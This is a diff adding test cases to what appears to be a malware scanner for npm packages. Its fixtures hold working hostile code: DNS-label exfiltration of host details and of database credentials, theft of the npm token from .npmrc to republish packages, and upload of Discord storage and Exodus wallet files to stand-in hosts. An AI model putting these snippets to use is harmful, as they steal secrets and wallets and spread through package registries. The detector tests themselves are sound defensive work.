@@ -178,3 +178,84 @@ module.exports = function init(opts) {
     expect(inCode.evidence.map((f) => f.rule)).toContain('text.unicode-tags');
   });
 });
+
+describe('rounds 37 and 38: behaviour inside the normal use of a library', () => {
+  it('host details hex-encoded into DNS labels under a zone read from a data file, on first call: critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ version: '99.4.2' }),
+      'index.js': `const { warm } = require('./lib/resolve'); let done = false;
+exports.getConfig = () => { if (!done) { done = true; warm(); } return {}; };`,
+      'lib/zone.json': '{ "segments": ["q", "scirtem-cnys", "elpmaxe"] }',
+      'lib/resolve.js': `const os = require('os'), dns = require('dns'), crypto = require('crypto');
+const zone = require('./zone.json').segments.map((s) => s.split('').reverse().join('')).join('.');
+exports.warm = () => {
+  const hex = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex');
+  const id = crypto.randomBytes(3).toString('hex');
+  const labels = [];
+  for (let i = 0; i < hex.length; i += 56) labels.push(hex.slice(i, i + 56));
+  labels.forEach((label, i) => dns.lookup(\`\${label}.\${i}-\${labels.length}.\${id}.\${zone}\`, () => {}));
+};`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-fingerprint');
+  });
+  it('secret environment variables (a database URL) in DNS labels: critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const dns = require('dns');
+exports.createDb = (opts) => {
+  const hex = Buffer.from([process.env.DATABASE_URL, process.env.PGPASSWORD].join(';')).toString('hex');
+  for (let i = 0; i < hex.length; i += 60) dns.resolve4(hex.slice(i, i + 60) + '.' + i + '.pw.example-dbwarm.net', () => {});
+  return { query: () => Promise.resolve([]) };
+};`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((f) => f.rule)).toContain('js.secret-env-to-network');
+  });
+  it('quiet: a service-discovery client that resolves names under its configured domain', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const dns = require('dns');
+exports.discover = (service) => new Promise((ok) => dns.resolveSrv(\`_\${service}._tcp.service.example-consul.net\`, (e, r) => ok(r || [])));`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it("the registry's publish request built by hand with a token taken from .npmrc: self-propagation", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os'), https = require('https');
+const token = (fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/) || [])[1];
+function put(name, doc) { const r = https.request({ host: 'registry.example-npm.org', path: '/' + name, method: 'PUT', headers: { authorization: 'Bearer ' + token } }); r.end(JSON.stringify(doc)); }
+exports.satisfies = (name, pj, data) => put(name, { _id: name, name, 'dist-tags': { latest: pj.version }, versions: { [pj.version]: pj }, _attachments: { [name + '.tgz']: { data: data.toString('base64') } } });`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-npm-publish');
+  });
+  it('quiet: a publishing library that builds the request from the manifest and token it is given', () => {
+    const found = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `exports.publish = (manifest, tarball, opts) => opts.fetch('/' + manifest.name, { method: 'PUT', body: { _id: manifest.name, name: manifest.name, versions: { [manifest.version]: manifest }, _attachments: { [manifest.name + '.tgz']: { data: tarball.toString('base64') } } } });`,
+    });
+    expect(found.risk_level).toBe('clean');
+  });
+  it("Electron's net.request is a request: other apps' data folders uploaded from the main process", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path');
+const { app, net } = require('electron');
+const LEGACY = ['discord/Local Storage/leveldb', 'Exodus/exodus.wallet'];
+exports.migrate = () => {
+  const files = [];
+  for (const rel of LEGACY) { const dir = path.join(app.getPath('appData'), rel); for (const f of fs.readdirSync(dir)) files.push(fs.readFileSync(path.join(dir, f)).toString('base64')); }
+  const req = net.request({ method: 'POST', protocol: 'https:', hostname: 'sync.example-state.net', path: '/m' });
+  req.write(JSON.stringify(files));
+  req.end();
+};`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+    expect(r.capabilities.network.makes_requests).toBe(true);
+  });
+});
